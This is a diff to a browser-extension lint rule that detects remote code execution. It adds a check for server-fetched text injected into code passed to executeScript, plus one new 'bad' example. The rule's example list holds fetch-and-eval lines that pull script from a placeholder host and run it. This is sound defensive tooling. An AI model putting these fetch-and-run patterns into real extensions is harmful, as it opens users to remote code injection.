@@ -17,6 +17,7 @@ import {
   isToldOfServer,
 } from './network.ts';
 import { pathsInSlice, backwardSlice } from './backwardSlice.ts';
+import { isInTexts } from './isInTexts.ts';
 import { say } from '../../../texts/say.ts';
 
 /** The ways that certainly run what they are given. */
@@ -78,6 +79,10 @@ export const remoteCode = defineRule({
         yield hit(run.value, { severity: 'medium', message: say('code-from-own-computer') });
         continue;
       }
+      if (isInTexts(script, run.code)) {
+        yield hit(run.value, { severity: 'high', confidence: 'medium', message: say('server-text-in-code') });
+        continue;
+      }
       if (isSandboxed) {
         yield hit(run.value, {
           severity: 'medium',
@@ -97,6 +102,10 @@ export const remoteCode = defineRule({
   examples: {
     bad: [
       backgroundExample('fetch("https://x.example/a.js").then((r) => r.text()).then(eval);'),
+      backgroundExample(
+        'fetch("https://x.example/a").then((r) => r.text()).then((t) => chrome.tabs.executeScript({ code: `document.querySelector("#a").value = \\`${t}\\`;` }));',
+        { manifest_version: 2 },
+      ),
       backgroundExample('fetch("https://x.example/a").then((r) => r.text()).then((t) => { eval(t); });'),
       backgroundExample(
         'async function load() { const r = await fetch("https://x.example/c"); const { script } = await r.json(); new Function(script)(); } load();',
